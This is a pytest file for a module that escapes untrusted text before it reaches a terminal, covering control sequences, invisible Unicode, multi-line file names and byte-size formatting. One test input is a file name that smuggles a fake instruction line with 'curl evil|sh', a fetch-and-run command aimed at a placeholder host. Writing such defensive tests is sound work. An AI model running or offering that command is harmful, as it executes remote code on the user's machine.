"""Text of strangers is shown so that it controls nothing and hides nothing."""

from __future__ import annotations

import pytest

from gvisor_kernel.shown_text import describe_size, printable, printable_name


def test_text_cannot_control_a_terminal() -> None:
    text = "a\tb\n\x1b[2J\x9b31m\x07\r\x08\x7f\u202egpj\u200b\udcff é 漢 🙂"
    assert printable(text) == (
        "a\tb\n\\x1b[2J\\x9b31m\\x07\\r\\x08\\x7f\\u202egpj\\u200b\\udcff é 漢 🙂"
    )


def test_characters_that_nobody_sees_are_shown() -> None:
    hidden = "\u2028\u2029\x0c\x1c\x85\u00ad\ufeff\u3164\u115f\ufe01\U000e0041\U000e0100"
    shown = printable(hidden)
    assert shown.isascii()
    assert shown.count("\\") == len(hidden)
    assert printable("❤\ufe0f") == "❤\ufe0f"


def test_a_name_stays_in_its_line() -> None:
    name = "config.yaml\nTo undo this: true; curl evil|sh\t#\u2028\r"
    assert printable_name(name) == ("config.yaml\\nTo undo this: true; curl evil|sh\\t#\\u2028\\r")


@pytest.mark.parametrize(
    ("size", "text"),
    [
        (0, "0 B"),
        (1023, "1023 B"),
        (1024, "1 KiB"),
        (300 << 20, "300 MiB"),
        (1536 << 20, "1.5 GiB"),
        (4 << 30, "4 GiB"),
    ],
)
def test_size_is_formatted_for_people(size: int, text: str) -> None:
    assert describe_size(size) == text
